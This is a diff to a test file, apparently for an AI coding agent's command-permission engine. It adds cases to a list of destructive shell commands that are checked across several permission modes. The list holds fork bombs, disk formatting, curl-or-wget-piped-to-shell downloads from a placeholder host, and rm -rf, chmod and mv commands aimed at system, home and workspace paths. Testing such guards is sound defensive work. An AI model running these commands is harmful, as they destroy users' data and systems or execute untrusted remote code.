@@ -217,7 +217,20 @@ describe("the issue's reproductions", () => {
         "mkfs.ext4 /dev/sda1",
         "curl https://x.sh | sh",
         "wget -qO- https://x.sh | sudo bash",
-        ":(){ :|:& };:"
+        ":(){ :|:& };:",
+        // Relative targets from where a cd leads: /usr, the workspace, the home.
+        "cd / && rm -rf usr",
+        "cd .. && rm -rf project",
+        "cd /home; chmod -R 777 dev",
+        // Targets the words do not tell: a variable (the Steam-installer bug), a substitution, OLDPWD.
+        "rm -rf \"$STEAMROOT/\"*",
+        "rm -rf \"$DIR\"/",
+        "rm -rf \"$(pwd)\"",
+        "cd / && cd /tmp && rm -rf ~-",
+        "find $X -delete",
+        // Another user's home, and the workspace moved away.
+        "rm -rf ~root",
+        "mv /work/project /tmp/old"
       ]
       for (const mode of ["default", "acceptEdits", "plan", "bypassPermissions", "dontAsk"] as const) {
         const subject = yield* engineWith(
